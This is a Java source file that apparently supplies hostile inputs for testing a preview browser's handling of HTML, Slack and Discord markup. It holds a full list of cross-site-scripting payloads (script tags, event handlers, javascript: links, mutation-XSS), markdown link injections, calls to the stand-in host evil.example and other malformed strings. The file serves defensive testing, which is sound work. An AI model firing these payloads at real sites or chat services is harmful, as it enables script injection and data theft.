package org.connectioncoach.app.preview.browser;

import java.util.ArrayList;
import java.util.List;

/** Words that would do something if anything read them as markup, in HTML, in Slack's or in Discord's. */
final class HostileInputs {
    private static final List<String> RUNS = List.of("window.hacked=1", "alert(1)", "fetch('https://evil.example')");

    private static final List<String> HTML = List.of(
            "<script>%s</script>",
            "<img src=x onerror=\"%s\">",
            "<svg onload=\"%s\">",
            "<svg><script>%s</script></svg>",
            "<iframe srcdoc=\"<script>parent.%s</script>\"></iframe>",
            "<a href=\"javascript:%s\">press</a>",
            "<details open ontoggle=\"%s\">",
            "<body onload=\"%s\">",
            "<input autofocus onfocus=\"%s\">",
            "<style>@import 'https://evil.example'</style>%s",
            "<math><mtext><table><mglyph><style><img src=x onerror=\"%s\">",
            "<template><script>%s</script></template>",
            "<base href='https://evil.example'>%s",
            "<meta http-equiv=refresh content='0;url=javascript:%s'>",
            "<object data=\"javascript:%s\"></object>",
            "<embed src=\"javascript:%s\">",
            "<form action=\"javascript:%s\"><button>Press</button></form>",
            "</textarea><script>%s</script>",
            "--><script>%s</script>",
            "\"><script>%s</script>",
            "'-%s-'",
            "${%s}",
            "{{%s}}",
            "\\u003cscript\\u003e%s\\u003c/script\\u003e",
            "&lt;script&gt;%s&lt;/script&gt;",
            "&#60;script&#62;%s&#60;/script&#62;");

    private static final List<String> MARKUP = List.of(
            "<javascript:%s|press>",
            "<https://evil.example/\" onmouseover=\"%s|press>",
            "[press](javascript:%s)",
            "[press](https://evil.example/\"onclick=\"%s)",
            "[press](<https://evil.example/%s>)",
            "![picture](https://evil.example/%s.png)",
            "<@U123|%s>",
            "<!channel> %s",
            "@everyone %s",
            "```<script>%s</script>```",
            "*<b>%s</b>*",
            "**<i>%s</i>**",
            "-# <u>%s</u>",
            "> <script>%s</script>",
            "# <script>%s</script>");

    private static final List<String> SINGLE = List.of(
            "__proto__",
            "constructor",
            "\u202Egnp.exe",
            "\u0000nul",
            "\uD83D",
            "%s%n%x",
            "data: {\"x\":1}\n\nevent: message\ndata: {}",
            "\r\n\r\nevent: cleared\r\ndata: {\"pane\":\"slack\"}",
            "]]>",
            "a".repeat(5_000));

    private HostileInputs() {}

    static List<String> all() {
        List<String> all = new ArrayList<>(SINGLE);
        for (String run : RUNS) {
            HTML.forEach(html -> all.add(html.replace("%s", run)));
            MARKUP.forEach(markup -> all.add(markup.replace("%s", run)));
        }
        return all;
    }
}
